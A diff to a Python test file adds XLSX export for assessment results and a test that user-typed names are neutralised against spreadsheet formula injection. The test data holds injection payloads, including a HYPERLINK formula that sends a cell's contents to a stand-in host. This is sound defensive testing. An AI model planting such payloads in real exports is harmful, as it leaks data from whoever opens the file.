@@ -1,4 +1,4 @@
-"""cat_engine.server.results: the result rows of finished and terminated sittings, and their CSV."""
+"""cat_engine.server.results: the result rows of finished and terminated sittings, and their CSV and XLSX."""
 
 from __future__ import annotations
 
@@ -9,14 +9,16 @@ import re
 from pathlib import Path
 from typing import Any
 
+import openpyxl
 import orjson
 from server_world import Process, cmd, process
 from server_world import demo_battery as demo
 from server_world import run_coroutine as run
 
 from cat_engine.server.memory_store import MemoryStore
-from cat_engine.server.results import RESULT_COLUMNS, result_rows, rows_to_csv
+from cat_engine.server.results import RESULT_COLUMNS, result_rows, rows_to_csv, rows_to_xlsx
 from cat_engine.server.rooms import create_room, register
+from cat_engine.server.spreadsheet import defuse
 
 
 def roster(n: int) -> list[dict[str, str]]:
@@ -105,6 +107,34 @@ def test_rows_to_csv_quotes_what_needs_quoting() -> None:
     assert back[0]["name"] == 'Rahma, Siti "Ani"'
     assert back[0]["theta"] == "0.5" and back[0]["complete"] == "True"
     assert tuple(back[0]) == RESULT_COLUMNS
+
+
+def test_result_files_defuse_names_and_keep_numbers() -> None:
+    """Names people typed cannot run in a spreadsheet; theta, SE and the counts stay numbers (negative ones too)."""
+    names = ['=HYPERLINK("http://x/?"&A1,"click")', "+SUM(1,2)", "@SUM(1,2)", "-2+3", "Sari;=1+2", "Budi"]
+    rows: list[dict[str, Any]] = []
+    for i, name in enumerate(names):
+        row: dict[str, Any] = dict.fromkeys(RESULT_COLUMNS, "x")
+        row |= {"employee_id": f"+62{i}", "name": name, "theta": -0.52 - i, "se": 0.3, "level": 1, "items": 7}
+        row |= {"scaled_score": None, "time_s": 12.5, "complete": False}
+        rows.append(row)
+
+    back = list(csv.DictReader(io.StringIO(rows_to_csv(rows))))
+    assert [b["name"] for b in back] == [defuse(n) for n in names]
+    assert [b["name"][0] for b in back] == ["'", "'", "'", "'", "S", "B"]
+    assert back[4]["name"] == "Sari;'=1+2"
+    assert [b["employee_id"] for b in back] == [f"'+62{i}" for i in range(len(names))]
+    assert [(b["theta"], b["level"], b["scaled_score"], b["time_s"]) for b in back][:2] == [
+        ("-0.52", "1", "", "12.5"),
+        ("-1.52", "1", "", "12.5"),
+    ]
+
+    ws = openpyxl.load_workbook(io.BytesIO(rows_to_xlsx(rows)))["results"]
+    table = [[c.value for c in r] for r in ws.iter_rows()]
+    assert tuple(table[0]) == RESULT_COLUMNS
+    for line, row in zip(table[1:], rows, strict=True):
+        assert line == [row[c] for c in RESULT_COLUMNS]  # names verbatim, as text
+    assert {ws.cell(i, RESULT_COLUMNS.index("name") + 1).data_type for i in range(2, len(rows) + 2)} == {"s"}
 
 
 def test_result_columns_are_the_documented_ones() -> None:
